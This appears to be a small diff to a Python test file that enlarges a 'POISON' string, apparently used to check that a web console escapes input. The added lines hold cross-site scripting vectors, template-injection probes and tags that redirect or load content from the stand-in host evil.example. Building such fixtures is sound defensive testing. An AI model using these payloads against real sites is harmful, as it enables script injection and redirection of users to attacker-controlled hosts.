@@ -106,4 +106,9 @@ def person(console_url: str) -> Iterator[Person]:
 POISON = (
     "<script>document.title='owned'</script><img src=x onerror=alert(1)>\"' onfocus=alert(1) autofocus x=\""
     "</title></svg></table><svg onload=alert(1)>{{7*7}}{% print 7*7 %}${7*7} javascript:alert(1)"
+    "</textarea></style></noscript><iframe srcdoc='<script>alert(2)</script>'></iframe><base href=//evil.example>"
+    "<meta http-equiv=refresh content='0;url=//evil.example'><style>@import'//evil.example'</style>"
+    "<a href=java&#10;script:alert(3)>x</a><form action=//evil.example><input type=submit autofocus onfocus=alert(4)>"
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(5)&gt;'>"
+    "#{7*7}<%= 7*7 %>{0.__class__}%(name)s&lt;script&gt;alert(6)&lt;/script&gt;"
 )
